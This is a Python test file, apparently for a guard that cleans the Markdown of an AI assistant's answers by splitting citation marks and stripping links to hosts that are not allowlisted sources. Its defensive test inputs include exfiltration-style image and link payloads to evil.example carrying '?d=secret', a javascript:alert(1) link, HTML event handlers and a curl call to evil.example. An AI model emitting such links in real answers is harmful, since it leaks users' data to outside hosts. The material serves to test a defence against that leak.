"""Marks and links in the text of an answer."""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from gleaner.guards.answer_text import AllowedLinks, drop_marks, find_marked_ids, remove_foreign_links, split_marks
from tests.examples import examples

ALLOWED = "https://starlette.dev/release"
NESTED = "https://wiki.example/Star_(object)"

_READER = MarkdownIt("commonmark", {"html": True}).enable("table")
_PLAIN = re.compile(r"</?(?:br|b|sub)>")


@pytest.mark.parametrize(
    ("answer", "plain", "ids"),
    [
        ("A [kb-1].", "A [kb-1].", ["kb-1"]),
        ("A [kb-1, kb-99].", "A [kb-1] [kb-99].", ["kb-1", "kb-99"]),
        ("A [KB-55;web-2]", "A [kb-55] [web-2]", ["kb-55", "web-2"]),
        ("`a[kb-1]` and\n```\nx[kb-2]\n```", "`a[kb-1]` and\n```\nx[kb-2]\n```", []),
        ("A list[1] and [kb-x]", "A list[1] and [kb-x]", []),
    ],
)
def test_marks(answer: str, plain: str, ids: list[str]) -> None:
    assert split_marks(answer) == plain
    assert find_marked_ids(plain) == ids


@pytest.mark.parametrize(
    ("answer", "left"),
    [
        ("A  [kb-1] \t[web-2]. [kb-3] B", "A. B"),
        ("[kb-1] A\n [kb-2]\nB", " A\n\nB"),
        (" " * 500_000, " " * 500_000),  # in linear time, or this never ends
    ],
)
def test_marks_are_dropped_with_the_space_before_them(answer: str, left: str) -> None:
    assert drop_marks(answer) == left


@pytest.mark.parametrize(
    ("answer", "cleaned"),
    [
        (f"See [the notes]({ALLOWED}).", f"See [the notes]({ALLOWED})."),
        (f'See [the notes]({ALLOWED} "title").', f"See [the notes]({ALLOWED})."),
        (f"See [the `code`]({ALLOWED}).", f"See [the `code`]({ALLOWED})."),
        (f"See [it]({NESTED}) and {NESTED}.", f"See [it]({NESTED}) and {NESTED}."),
        (f"See {ALLOWED}.", f"See {ALLOWED}."),
        (f"See **{ALLOWED}** (<{ALLOWED}>)", f"See **{ALLOWED}** (<{ALLOWED}>)"),
        (f"See {ALLOWED}[kb-1]", f"See {ALLOWED} [kb-1]"),
        (f"See {ALLOWED}?d=secret or {ALLOWED}/secret", "See […] or […]"),
        ("![i](http://evil/x.png?d=1) text", "i text"),
        (f"![i]({ALLOWED}) text", "i text"),
        ("[l](http://evil.example/a) text", "l text"),
        ("[l](//evil.example/a) [m](mailto:a@evil.example?body=secret)", "l m"),
        ("<img src=http://evil/x> text <script>", " text "),
        ("Go to http://evil.example/?q=secret, now.", "Go to […], now."),
        ("Go to www.evil.example/?q=secret or ftp://evil.example/x.", "Go to […] or […]."),
        ("<https://evil.example/>", "[…]"),
        ("[x](javascript:alert(1))", "x"),
        ("<javascript:alert(1)>", "‹javascript:alert(1)>"),
        ("![a [b] c](//evil.example/x)", "! [a [b] c] ([…])"),
        ("![a\\]b](//evil.example/x)", "! [a\\]b] ([…])"),
        ("![x][r]\n\n[r]: //evil.example/?d=secret", "! [x][r]\n\n[r] : […]"),
        ("[a]<img>(//evil.example/)", "a"),
        ('<b onmouseover="x">bold</b> and H<sub>2</sub>O', '‹b onmouseover="x">bold</b> and H<sub>2</sub>O'),
        ("<img src=//evil.example/?d=secret", "‹img src=[…]"),
        ("`http://evil.example/` stays", "`http://evil.example/` stays"),
        ("```\ncurl http://evil.example/\n```", "```\ncurl http://evil.example/\n```"),
        ("1. Run\n   ```\n   curl http://a.example/\n   ```", "1. Run\n   ```\n   curl http://a.example/\n   ```"),
        (f"![\\[x]({ALLOWED})", f"! [\\[x]({ALLOWED})"),
        ("A [kb-1] mark", "A [kb-1] mark"),
        ("5 < 6 and a list[1]: x", "5 < 6 and a list[1]: x"),
    ],
)
def test_links(answer: str, cleaned: str) -> None:
    assert remove_foreign_links(answer, AllowedLinks.of({ALLOWED, NESTED})) == cleaned


@pytest.mark.parametrize(
    "no_code",
    [
        "\\`{}`",  # an escaped backtick starts no code
        "a ``` {}",  # not a fence, because text precedes it
        "`a\nb` {} `c`",  # code across two lines
        "`` ` ``{}`",
        "- ```\n{}",  # the fence ends with its list item
        "- a\n  ```\n{}\n```",
        "a\n    ```\n    {}\n    ````",
        "<div>\n```\n</div>\n\n{}\n\n```",
        "| a | b |\n|---|---|\n| `c | {} ` |",
    ],
)
@pytest.mark.parametrize("image", ["![x](//evil.example/?d=secret)", '<img src="//evil.example/?d=secret">'])
def test_images_are_removed_from_text_that_only_looks_like_code(no_code: str, image: str) -> None:
    answer = no_code.format(image)
    assert _find_active(answer), "the reader must see the image"
    assert _find_active(remove_foreign_links(answer, AllowedLinks.of(()))) == []


_PIECES = (
    *(
        "![",
        "[",
        "]",
        "(",
        ")",
        "](",
        "]:",
        "<",
        ">",
        "`",
        "``",
        "```",
        "~~~",
        "\\",
        "\n",
        "\n\n",
        " ",
        "    ",
        "- ",
        "> ",
    ),
    *("a", "b", "1. ", "|", "|---|---|\n", "//e.example/?d=1", "http://e.example/", "www.e.example", ALLOWED, '"', "'"),
    *(
        "[r]: //e.example",
        "[r]",
        "<img src=//e.example>",
        "<b>",
        "</b>",
        "<div>",
        "<!--",
        "-->",
        "<a href=//e.example>",
    ),
    *("[x](//e.example)", "![x](//e.example)", f"[x]({ALLOWED})", "[kb-1]", "#", "*", "&#47;", "`[x](//e.example)`"),
)


@settings(max_examples=examples(200, 600))
@given(st.lists(st.sampled_from(_PIECES), max_size=30).map("".join))
def test_a_markdown_reader_sees_only_links_to_sources(answer: str) -> None:
    once = remove_foreign_links(answer, AllowedLinks.of({ALLOWED}))
    assert _find_active(once) == []
    assert remove_foreign_links(once, AllowedLinks.of({ALLOWED})) == once


def _find_active(markdown: str) -> list[str]:
    """Return what a Markdown reader would load or link to, except the source, and HTML that is not plain."""
    active: list[str] = []
    for token in _flatten(_READER.parse(markdown)):
        if token.type == "link_open" and token.attrs["href"] != ALLOWED:
            active.append(str(token.attrs["href"]))
        if token.type == "image":
            active.append(str(token.attrs["src"]))
        if token.type in ("html_block", "html_inline") and not _PLAIN.fullmatch(token.content):
            active.append(token.content)
    return active


def _flatten(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from _flatten(token.children or [])
